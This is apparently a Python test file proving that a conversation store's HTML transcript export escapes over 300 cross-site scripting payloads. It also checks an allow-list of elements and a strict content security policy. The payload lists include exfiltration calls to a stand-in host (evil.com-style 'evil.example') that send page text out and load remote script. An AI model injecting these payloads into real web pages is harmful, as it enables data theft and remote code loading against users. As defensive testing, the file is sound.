"""A transcript as a page: complete, marked, one file, and dead: nothing in it runs or is fetched."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Sequence
from hashlib import sha256
from html.parser import HTMLParser
from itertools import product
from typing import Any, Final

from conversation_store import Document, Image, Store, Unknown
from conversation_store.formats import html
from conversation_store.testing import Answer
from tests import pictures
from tests.test_transfer import MODEL, two

ALLOWED: Final = {
    "html": {"lang"},
    "head": set(),
    "meta": {"charset", "http-equiv", "name", "content"},
    "title": set(),
    "style": set(),
    "body": set(),
    "main": set(),
    "h1": set(),
    "h2": set(),
    "dl": set(),
    "dt": set(),
    "dd": set(),
    "ul": set(),
    "li": {"class"},
    "article": {"class"},
    "span": set(),
    "time": set(),
    "p": {"class"},
    "div": {"class"},
    "mark": set(),
    "details": {"class"},
    "summary": set(),
    "pre": set(),
    "figure": set(),
    "img": {"alt", "src"},
    "figcaption": set(),
}
PICTURE: Final = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+={0,2}")
CLASSES: Final = {
    *("human", "model", "synthetic", "prefill", "tool", "system", "summary", "imported"),
    *("words", "named", "from", "thinking", "call", "result", "other"),
}
VOID: Final = {"meta", "img"}


class Page(HTMLParser):
    """Reads a page as a browser would, and keeps what is not allowed in it."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.strange: list[str] = []
        self.words: list[str] = []
        self.elements: dict[str, int] = {}
        self.open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        """Hold an element against the list."""
        self.elements[tag] = self.elements.get(tag, 0) + 1
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            good = name in ALLOWED.get(tag, set())
            good = good and (name != "class" or value in CLASSES)
            good = good and (name != "src" or PICTURE.fullmatch(value or "") is not None)
            if not good:
                self.strange.append(f"{tag} {name}={value!r}")
        if tag not in ALLOWED:
            self.strange.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Hold an end against its beginning."""
        if not self.open or self.open.pop() != tag:
            self.strange.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        """No comment is ours."""
        self.strange.append(f"<!--{data}")

    def handle_pi(self, data: str) -> None:
        """Neither is an instruction."""
        self.strange.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        """Nor a declaration."""
        self.strange.append(f"<![{data}")

    def handle_data(self, data: str) -> None:
        """Keep the words, but for the style's."""
        if self.open[-1:] != ["style"]:
            self.words.append(data)


TAGS: Final = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{}",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x00>{}</script>",
    "<script/xss>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src=`x` onerror=`{}`>",
    "<IMG SRC=javascript:{}>",
    "<img/src/onerror={}>",
    "<image href=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,{}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    '<a href="jAvAsCrIpT&colon;{}">x</a>',
    "<a href=' &#14; javascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    "<div style='background:url(javascript:{})'>x</div>",
    "<div style=width:expression({})>x</div>",
    "<x onclick={} tabindex=1 id=x>#x",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!DOCTYPE x [<!ENTITY x '{}'>]>&x;",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</pre></details><script>{}</script>",
    "</textarea><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<\u2028script>{}</script>",
    "\u202e<script>{}</script>",
    "<scr\ud800ipt>{}</script>",
    "<a\x0bhref=javascript:{}>x</a>",
    "<a\thref='java\tscript:{}'>x</a>",
    "<a\nhref='java\nscript:{}'>x</a>",
    "<img src=x\x0conerror={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
)
CALLS: Final = (
    "alert(1)",
    "fetch('//evil.example/?'+document.body.innerText)",
    "import('//evil.example/x.js')",
    "'\"`>",
)
PAYLOADS: Final = [tag.format(call) for tag, call in product(TAGS, CALLS)]


def text_of(payload: str) -> str:
    """Make a payload what a caller may say: no lone surrogate."""
    return payload.encode("utf-8", "replace").decode()


def carrying(store: Store, key: str, payloads: Sequence[str]) -> str:
    """Write a page in which payloads stand in every place that words can get to."""
    safe = [text_of(each) for each in payloads]
    first = safe[0]
    chat = store.open(f"{key}{first}"[:100], model=f"claude {first}", system=first, tools=[{"name": first}])
    chat.label(title=first)
    chat.assistant(first, reason=first)
    for payload in safe:
        blocks: list[dict[str, Any]] = [
            {"type": "text", "text": payload, "citations": [{"url": payload, "title": payload}]},
            {"type": "thinking", "thinking": payload, "signature": payload},
            {"type": "tool_use", "id": payload, "name": payload, "input": {payload: [payload]}},
            {"type": "server_tool_use", "id": payload, "name": payload, "input": {"query": payload}},
            {"type": "web_search_tool_result", "tool_use_id": payload, "content": [{"url": payload, "title": payload}]},
        ]
        said: list[dict[str, Any]] = [
            {"type": "tool_result", "tool_use_id": payload, "content": payload, "is_error": True},
            {"type": "image", "source": {"type": "url", "url": payload}},
            {"type": "image", "source": {"type": "base64", "media_type": payload, "data": payload}},
            {"type": "image", "source": {"type": "file", "file_id": payload}},
            {"type": "document", "title": payload, "source": {"type": "url", "url": payload}},
            {"type": "document", "title": payload, "source": {"type": "text", "media_type": payload, "data": payload}},
            {
                "type": "search_result",
                "source": payload,
                "title": payload,
                "content": [{"type": "text", "text": payload}],
            },
            {"type": "container_upload", "file_id": payload},
        ]
        chat.append({"role": "assistant", "content": blocks}, {"role": "user", "content": said}, check=False)
        chat.append({"role": "user", "content": [Unknown(kind=payload, extra={payload: payload})]}, check=False)
    return b"".join(chat.export("html")).decode()


def test_no_payload_becomes_an_element() -> None:
    """Over 300 attacks in words, inputs, titles, names and addresses: all of them are words, and all are there."""
    assert len(PAYLOADS) >= 300
    with Store("sqlite://") as store:
        for at in range(0, len(PAYLOADS), 16):
            chosen = PAYLOADS[at : at + 16]
            page = Page(carrying(store, str(at), chosen))
            assert page.strange == [], chosen
            assert page.open == []
            assert set(page.elements) <= set(ALLOWED)
            assert page.elements["style"] == page.elements["title"] == 1
            assert page.elements["meta"] == 4
            assert "img" not in page.elements
            words = "".join(page.words)
            for payload in chosen:
                assert text_of(payload).translate(html._CONTROLS) in words


def test_an_answer_with_a_lone_surrogate_is_written() -> None:
    """What the API sent need not be text."""
    answer = b'{"type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"a\\ud800<b>"}]}'
    with Store("sqlite://") as store:
        chat = store.open("k", model=MODEL, max_tokens=8)
        chat.begin("Hello").finish(answer)
        for form in ("html", "markdown", "openai"):
            assert b"ud800" in b"".join(chat.export(form))


def test_the_policy_forbids_all_but_the_page_itself() -> None:
    """No script, no form, no base, no address but data; its one style is named by its digest."""
    with Store("sqlite://") as store:
        page = b"".join(store.open("k", model=MODEL).export("html")).decode()
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    digest = b64encode(sha256(style.encode()).digest()).decode()
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy.replace("&#x27;", "'").split("; ") == [
        "default-src 'none'",
        "img-src data:",
        f"style-src 'sha256-{digest}'",
        "base-uri 'none'",
        "form-action 'none'",
    ]
    assert "url(" not in style
    assert "@import" not in style
    assert "prefers-color-scheme:dark" in style
    assert "@media print" in style


def test_a_page_says_who_said_what() -> None:
    """Each turn has its origin's class and words, a prefill is marked inside, pictures are inside, tools folded."""
    tool = {"type": "tool_use", "id": "toolu_1", "name": "weather", "input": {"city": "Berlin"}}
    png = pictures.png(8, 8, padding=5000)
    with two("sqlite://", "sqlite://", "C) Formicidae", Answer([tool])) as (store, _, __):
        chat = store.open("k", model=MODEL, max_tokens=64, system="Be short.")
        chat.label(title="Ants")
        chat.user(Image.from_bytes(png), Document.from_text("Ants."), "What is this?")
        chat.assistant("An ant.", reason="canned")
        chat.send("Which?", prefill="It is (")
        chat.send("And the weather?")
        chat.tool_result("toolu_1", ["18 degrees", Image.from_bytes(png)])
        page = b"".join(chat.export("html")).decode()
    for expected in (
        "<title>Ants</title>",
        '<article class="human"><h2>user <time>',
        '<article class="synthetic"><h2>assistant <span>synthetic: canned</span>',
        '<article class="model"><h2>assistant <span>begun by a prefill</span>',
        '<div class="words"><mark>It is (</mark>C) Formicidae</div>',
        '<details class="call"><summary>calls weather</summary><pre>\n{&quot;city&quot;:&quot;Berlin&quot;}</pre>',
        '<article class="tool"><h2>user <span>tool</span>',
        f'<img alt="" src="data:image/png;base64,{b64encode(png).decode()}">',
        "Be short.",
    ):
        assert expected in page, expected
    read = Page(page)
    assert read.strange == []
    assert read.elements["img"] == 2
    assert not re.findall(r"(?:src|href)=\"(?!data:)", page)
